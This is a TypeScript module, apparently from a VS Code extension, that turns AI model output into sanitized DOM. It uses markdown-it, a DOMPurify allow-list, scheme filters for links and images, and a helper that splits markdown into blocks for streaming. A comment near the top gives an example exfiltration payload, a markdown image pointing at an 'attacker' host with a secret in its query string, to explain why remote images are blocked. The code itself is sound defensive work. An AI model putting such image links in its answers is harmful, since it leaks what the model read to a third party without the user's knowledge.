/**
 * Model output → safe DOM. markdown-it with raw HTML disabled renders the text, DOMPurify then
 * sanitizes the result against a small allow-list (model output is untrusted), and links and
 * images are reduced to the schemes the webview may use.
 *
 * For streaming, {@link parseBlocks} splits a document into top-level blocks, so the caller can
 * keep the DOM of finished blocks and re-render only the last one.
 */
import DOMPurify from 'dompurify';
import MarkdownIt from 'markdown-it';
import type { Token } from 'markdown-it';
import { linkDestination, linkTextMatches } from '../protocol/links';

/**
 * Remote images are not loaded: an answer could embed `![](https://attacker/?q=<secret>)` and
 * leak what it read without a click. They are shown as links instead; inline data images render.
 */
const LOAD_REMOTE_IMAGES = false;

/** Links the webview lets VS Code open (it intercepts clicks on these schemes). */
const SAFE_LINK = /^(?:https?:\/\/|mailto:)/i;
/** Images the webview displays: inline raster data (see LOAD_REMOTE_IMAGES). */
const SAFE_IMAGE = /^data:image\/(?:png|gif|jpe?g|webp);/i;
/** Classes markdown-it (and our align rule) produce; anything else is dropped. */
const SAFE_CLASS = /^(?:language-[\w#+.-]{1,40}|align-(?:left|center|right)|image-link)$/;

const md = new MarkdownIt({ html: false, linkify: true, typographer: false, breaks: false });

/** Table alignment comes out as `style="text-align:…"`, which the CSP blocks: use classes. */
md.core.ruler.push('switchyard_align_classes', (state) => {
  for (const token of state.tokens) {
    if (token.type !== 'th_open' && token.type !== 'td_open') continue;
    const style = String(token.attrGet('style') ?? '');
    token.attrs = (token.attrs ?? []).filter(([name]) => name !== 'style');
    const align = /text-align:\s*(left|center|right)/.exec(style)?.[1];
    if (align) token.attrJoin('class', `align-${align}`);
  }
});

const defaultImage = md.renderer.rules.image;
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = String(token?.attrGet('src') ?? '');
  if (!token || SAFE_IMAGE.test(src) || (LOAD_REMOTE_IMAGES && /^https:\/\//i.test(src))) {
    return defaultImage ? defaultImage(tokens, idx, options, env, self) : self.renderToken(tokens, idx, options);
  }
  const alt = self.renderInlineAsText(token.children ?? [], options, env) || 'image';
  const label = md.utils.escapeHtml(`[image: ${alt}]`);
  return /^https?:\/\//i.test(src) ? `<a href="${md.utils.escapeHtml(src)}" class="image-link">${label}</a>` : label;
};

const ALLOWED_TAGS = [
  'a',
  'blockquote',
  'br',
  'code',
  'del',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'img',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'strong',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
];
const ALLOWED_ATTR = ['href', 'src', 'alt', 'title', 'class', 'start'];

const purify = DOMPurify(window);
purify.addHook('afterSanitizeAttributes', (node) => {
  const tag = node.nodeName;
  if (tag === 'A') {
    const href = node.getAttribute('href') ?? '';
    if (SAFE_LINK.test(href)) {
      node.setAttribute('rel', 'noopener noreferrer');
      if (!node.hasAttribute('title')) node.setAttribute('title', href);
    } else {
      node.removeAttribute('href');
    }
  } else if (tag === 'IMG') {
    const src = node.getAttribute('src') ?? '';
    if (!SAFE_IMAGE.test(src) && !(LOAD_REMOTE_IMAGES && /^https:\/\//i.test(src))) node.removeAttribute('src');
    node.setAttribute('loading', 'lazy');
    node.setAttribute('referrerpolicy', 'no-referrer');
  }
  const classes = (node.getAttribute('class') ?? '').split(/\s+/).filter((c) => SAFE_CLASS.test(c));
  if (classes.length > 0) node.setAttribute('class', classes.join(' '));
  else node.removeAttribute('class');
});

/** Sanitizes HTML produced by markdown-it into a fragment of this document. */
export function sanitize(html: string): DocumentFragment {
  return guardLinks(purifyHtml(html));
}

/**
 * Links of model output never navigate by themselves: the URL moves from `href` to `data-url`
 * (so neither the webview nor VS Code's link handling opens it on a click), the link gets
 * `answer-link` (src/webview/view/answerLinks.ts posts `openLink`, the host asks when needed), and
 * a link whose text does not say where it goes shows its destination after it.
 */
function guardLinks(fragment: DocumentFragment): DocumentFragment {
  for (const a of Array.from(fragment.querySelectorAll('a[href]'))) {
    const href = a.getAttribute('href') ?? '';
    a.removeAttribute('href');
    a.setAttribute('data-url', href);
    a.setAttribute('role', 'link');
    a.setAttribute('tabindex', '0');
    a.classList.add('answer-link');
    if (linkTextMatches(a.textContent ?? '', href)) continue;
    const destination = fragment.ownerDocument.createElement('span');
    destination.className = 'link-destination';
    destination.textContent = ` (${linkDestination(href) ?? href})`;
    a.after(destination);
  }
  return fragment;
}

function purifyHtml(html: string): DocumentFragment {
  return purify.sanitize(html, {
    ALLOWED_TAGS,
    ALLOWED_ATTR: [...ALLOWED_ATTR, 'rel', 'loading', 'referrerpolicy'],
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
    FORBID_ATTR: ['style'],
    ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|data:image\/(?:png|gif|jpe?g|webp);)/i,
    RETURN_DOM_FRAGMENT: true,
  });
}

/** Renders a whole markdown document to a sanitized fragment. */
export function renderMarkdown(text: string): DocumentFragment {
  return sanitize(md.render(normalize(text)));
}

/** One top-level block of a document: its tokens and the source lines they came from. */
export interface MarkdownBlock {
  /** The block's source text; equal keys render equally (link references aside). */
  readonly key: string;
  /** Offset of the block's first line in the parsed text. */
  readonly offset: number;
  readonly tokens: readonly Token[];
}

/** Splits a markdown text into its top-level blocks (paragraph, list, fence, table, …). */
export function parseBlocks(text: string): MarkdownBlock[] {
  const source = normalize(text);
  const tokens = md.parse(source, {});
  const lineStarts = lineOffsets(source);
  const blocks: MarkdownBlock[] = [];
  let start = 0;
  let depth = 0;
  for (let i = 0; i < tokens.length; i++) {
    depth += tokens[i]?.nesting ?? 0;
    if (depth !== 0) continue;
    const group = tokens.slice(start, i + 1);
    const map = group[0]?.map;
    const from = map ? (lineStarts[map[0]] ?? source.length) : source.length;
    const to = map ? (lineStarts[map[1]] ?? source.length) : source.length;
    // A block without a source map never matches a cached one, so it is always re-rendered.
    blocks.push({ key: map ? source.slice(from, to) : `\u0000${i}`, offset: from, tokens: group });
    start = i + 1;
  }
  return blocks;
}

/** Renders blocks from {@link parseBlocks} to a sanitized fragment. */
export function renderBlocks(blocks: readonly MarkdownBlock[]): DocumentFragment {
  const tokens = blocks.flatMap((b) => b.tokens);
  return sanitize(md.renderer.render(tokens, md.options, {}));
}

/** markdown-it's own newline normalization, so that offsets match its line map. */
export function normalize(text: string): string {
  return text.replace(/\r\n?/g, '\n');
}

function lineOffsets(source: string): number[] {
  const starts = [0];
  for (let i = source.indexOf('\n'); i !== -1; i = source.indexOf('\n', i + 1)) starts.push(i + 1);
  return starts;
}
